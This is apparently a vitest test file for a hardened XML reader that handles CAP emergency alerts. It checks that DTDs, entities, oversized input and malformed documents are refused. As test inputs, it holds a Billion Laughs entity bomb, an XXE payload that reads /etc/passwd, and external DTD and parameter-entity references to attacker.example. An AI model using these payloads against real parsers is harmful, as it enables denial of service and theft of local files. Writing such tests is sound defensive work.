import { describe, expect, it } from 'vitest';
import { CapError } from './cap-error';
import { readSafeXml } from './read-safe-xml';

const read = (xml: string, maxBytes = 64 * 1024) => readSafeXml(xml, { maxBytes });

function refusal(xml: string, maxBytes?: number): CapError {
  try {
    read(xml, maxBytes);
  } catch (err) {
    if (err instanceof CapError) return err;
    throw err;
  }
  throw new Error('the document was accepted');
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>`;

describe('readSafeXml: DTDs and entities never reach the parser', () => {
  it.each([
    ['billion laughs', BILLION_LAUGHS],
    ['an external entity', '<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>'],
    ['an external DTD', '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd"><a/>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % pe SYSTEM "http://attacker.example/x.dtd"> %pe;]><a/>'],
    ['a DOCTYPE alone', '<!DOCTYPE alert><alert/>'],
    ['a lower-case doctype', '<!doctype alert><alert/>'],
    ['a DOCTYPE after a comment', '<!-- hello --><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'],
    ['a DOCTYPE after the root', '<a/><!DOCTYPE a>'],
    ['a DOCTYPE inside an element', '<a><!DOCTYPE b></a>'],
  ])('refuses %s outright', (_, xml) => {
    const started = performance.now();
    expect(refusal(xml).code).toBe('doctype_not_allowed');
    expect(performance.now() - started).toBeLessThan(100);
  });

  it('refuses a stray entity declaration without a DOCTYPE', () => {
    expect(refusal('<a><!ENTITY e "x"></a>').code).toBe('entity_not_allowed');
  });

  it.each([['&xxe;'], ['&nbsp;'], ['&eacute;'], ['&lol9;']])(
    'refuses the undeclared reference %s, naming the element',
    (ref) => {
      const err = refusal(`<alert><info><headline>a ${ref} b</headline></info></alert>`);
      expect(err.code).toBe('entity_not_allowed');
      expect(err.element).toBe('alert/info/headline');
      expect(err.message).toContain(ref);
    },
  );

  it('decodes the five XML entities and character references, and no more', () => {
    const el = read('<a>&lt;&gt;&amp;&quot;&apos; &#233;&#xE9;&#x1F6A8; &amp;lt;</a>');
    expect(el.text).toBe(`<>&"' éé🚨 &lt;`);
  });

  it('takes CDATA as it is: no reference inside it is decoded or refused', () => {
    const el = read('<a>x <![CDATA[&amp; &xxe; <!DOCTYPE b> <b>]]> y</a>');
    expect(el.text).toBe('x &amp; &xxe; <!DOCTYPE b> <b> y');
    expect(el.children).toEqual([]);
  });

  it('ignores comments and processing instructions, even ones that mention a DOCTYPE', () => {
    const el = read('<?xml version="1.0"?><!-- <!DOCTYPE x> --><?pi <!DOCTYPE y>?><a>t<!-- c --></a>');
    expect(el).toMatchObject({ name: 'a', text: 't' });
  });

  it.each([['&#0;'], ['&#x1;'], ['&#xD800;'], ['&#x110000;']])(
    'refuses the reference %s to a non-XML character',
    (ref) => {
      expect(refusal(`<a>${ref}</a>`).code).toBe('malformed_xml');
    },
  );
});

describe('readSafeXml: size and well-formedness', () => {
  it('counts bytes, not characters, before parsing anything', () => {
    const xml = `<a>${'é'.repeat(600)}</a>`; // 607 characters, 1207 bytes
    const err = refusal(xml, 1000);
    expect(err.code).toBe('too_large');
    expect(err.message).toContain('1207 bytes');
    expect(read(xml, 1207).text).toHaveLength(600);
  });

  it('checks the size before looking at a DTD', () => {
    expect(refusal(BILLION_LAUGHS, 100).code).toBe('too_large');
  });

  it.each([
    ['an unclosed element', '<a><b></a>'],
    ['text only', 'hello'],
    ['an empty document', ''],
    ['two roots', '<a/><b/>'],
    ['text after the root', '<a></a>tail'],
    ['text before the root', 'head<a></a>'],
    ['a bare ampersand', '<a>fish & chips</a>'],
    ['a control character', '<a>\u0001</a>'],
    ['an undeclared prefix', '<cap:alert/>'],
    ['an unterminated comment', '<a><!-- x</a>'],
  ])('refuses %s as malformed', (_, xml) => {
    expect(refusal(xml).code).toBe('malformed_xml');
  });

  it('refuses elements nested deeper than any CAP document needs', () => {
    const deep = (n: number) => '<a>'.repeat(n) + '</a>'.repeat(n);
    expect(read(deep(20)).name).toBe('a');
    expect(refusal(deep(5000))).toMatchObject({ code: 'malformed_xml', message: expect.stringMatching(/nested/) });
  });

  it('resolves default and prefixed namespaces, with redeclarations in scope only', () => {
    const root = read('<p:a xmlns:p="urn:one" xmlns="urn:two"><b/><p:c><d xmlns="urn:three"/></p:c><e/></p:a>');
    const names = (el: typeof root): unknown => [el.name, el.ns, el.children.map(names)];
    expect(names(root)).toEqual([
      'a',
      'urn:one',
      [
        ['b', 'urn:two', []],
        ['c', 'urn:one', [['d', 'urn:three', []]]],
        ['e', 'urn:two', []],
      ],
    ]);
  });

  it('numbers repeated siblings in element paths', () => {
    const root = read('<alert><info/><info><area/><area><areaDesc/></area></info><note/></alert>');
    expect(root.children.map((c) => c.path)).toEqual(['alert/info[1]', 'alert/info[2]', 'alert/note']);
    expect(root.children[1].children[1].children[0].path).toBe('alert/info[2]/area[2]/areaDesc');
  });

  it('accepts a byte order mark', () => {
    expect(read('\uFEFF<a>x</a>').text).toBe('x');
  });
});
